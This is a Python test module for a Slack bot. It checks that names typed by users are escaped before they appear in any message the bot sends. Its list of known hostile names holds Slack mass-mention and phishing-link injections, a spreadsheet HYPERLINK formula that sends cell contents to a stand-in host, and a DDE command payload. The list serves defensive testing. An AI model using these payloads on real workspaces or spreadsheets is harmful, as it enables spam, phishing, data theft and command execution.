"""No user-supplied name reaches a Slack message unescaped (issue #12).

Names are drawn from the alphabets of Slack's mention syntax and of spreadsheet formulas.
An admin runs, over real signed HTTP with the real core, every command that echoes a name
(creating, listing, renaming, reporting on and removing attributes, teams and schedules, and
the refusals that quote what was typed); every text the fake Slack received, response_url
replies and Web API posts alike, is then searched for live markup.
"""

from __future__ import annotations

import itertools
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from adapters.slack import SlackAdapter
from bot.commands.parser import normalise_mentions
from bot.model.settings import CoreSettings
from bot.runtime.app import App, build_app
from tests.fakes.slack_api import FakeSlackApi
from tests.hardening.leaks import unescaped_markup
from tests.slack import payloads
from tests.slack.conftest import Server, serve, settings_for

MENTION_ALPHABET = "<>!@#&|^*_~`:=+-;/ "
NAMES = st.text(
    st.sampled_from(MENTION_ALPHABET) | st.sampled_from("abcUCS0123"), min_size=1, max_size=30
).filter(lambda name: name.strip() != "")
# Names built to notify, link or run: the random ones above find the rest.
KNOWN_BAD = [
    "<!channel> *ping* <@U0>",
    "<!here>",
    "<!subteam^S1|@leads>",
    "<http://evil.example|click>",
    "=HYPERLINK(\"http://evil/?\"&A1,'x')",
    "+cmd|/C calc!A0",
    "@SUM(1)",
    "a <!everyone> b",
]

# Every command that puts a name into its reply, {n} being the name and {m} another.
ECHOING = [
    'attributes add "{n}"',
    "attributes list",
    'attributes rename "{n}" "{m}"',
    'attributes remove "{m}"',
    'attributes remove "{n}"',
    'teams add "{n}"',
    'teams add "{n}"',  # "already exists", quoting the name
    "teams list",
    'teams members "{n}"',
    'report team:"{n}"',
    'teams remove "{n}"',
    'schedule add every monday 09:00 name:"{n}"',
    "schedule list",
    'research show "{n}"',
]
_keys = itertools.count()


@pytest.fixture
async def slack_world(tmp_path: Path) -> AsyncIterator[tuple[App, Server, FakeSlackApi]]:
    fake = await FakeSlackApi().start()
    fake.add_user("UADA", name="Ada", is_admin=True)
    settings = CoreSettings(
        database_url=f"sqlite+aiosqlite:///{tmp_path / 'names.db'}", admins=("UADA",)
    )
    app = await build_app(
        settings, clock=lambda: datetime.now(UTC), chart_dir=tmp_path, with_chat_adapters=False
    )
    adapter = SlackAdapter(settings=settings_for(fake), core=app.core, records=app.store)
    app.core.register_port(adapter.port)
    try:
        async for server in serve(adapter, app.store):  # type: ignore[arg-type]
            await _run(server, fake, "poll now")  # a round, so that reports have a subject
            await _run(server, fake, "poll close")
            yield app, server, fake
    finally:
        await app.close()
        await fake.stop()


async def _run(server: Server, fake: FakeSlackApi, text: str) -> dict[str, Any]:
    key = f"k{next(_keys)}"
    posts = len(fake.calls_to("chat.postMessage"))
    body = payloads.slash_command(response_url=fake.response_url(key), text=text, trigger_id=key)
    assert (await server.signed(body)).status == 200
    if text.startswith("report"):
        # A report shown in the channel is one post (#13), not a response_url reply.
        await server.adapter.idle()
        if not fake.responses.get(key):
            (*_, posted) = await fake.wait_for("chat.postMessage", posts + 1, within=20)
            return posted.params
    (reply,) = await fake.wait_for_response(key, within=20)
    return reply


def _received(fake: FakeSlackApi) -> list[Any]:
    replies = [reply for replies in fake.responses.values() for reply in replies]
    return replies + [call.params for call in fake.calls]


async def _echo_every_command(server: Server, fake: FakeSlackApi, name: str) -> list[str]:
    texts = []
    for line in ECHOING:
        reply = await _run(server, fake, line.format(n=name, m=name + " 2"))
        texts.append(reply.get("text", ""))
    await server.adapter.idle()
    return texts


@pytest.mark.parametrize("name", KNOWN_BAD)
async def test_known_hostile_names_reach_no_message_unescaped(
    slack_world: tuple[App, Server, FakeSlackApi], name: str
) -> None:
    _, server, fake = slack_world
    texts = await _echo_every_command(server, fake, name)
    # The test would pass if nothing echoed the name: some reply must show it, escaped
    # (the parser turns a mention of a user group into "usergroup:ID" first).
    if "<" in normalise_mentions(name):
        assert any("&lt;" in text for text in texts), texts
    else:
        assert any("cannot start" in text or "usergroup:" in text for text in texts), texts
    leaks = [found for message in _received(fake) for found in unescaped_markup(message)]
    assert leaks == []


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=NAMES.filter(lambda n: '"' not in n and "\\" not in n))
async def test_generated_names_reach_no_message_unescaped(
    slack_world: tuple[App, Server, FakeSlackApi], name: str
) -> None:
    _, server, fake = slack_world
    await _echo_every_command(server, fake, name)
    leaks = [found for message in _received(fake) for found in unescaped_markup(message)]
    assert leaks == [], name
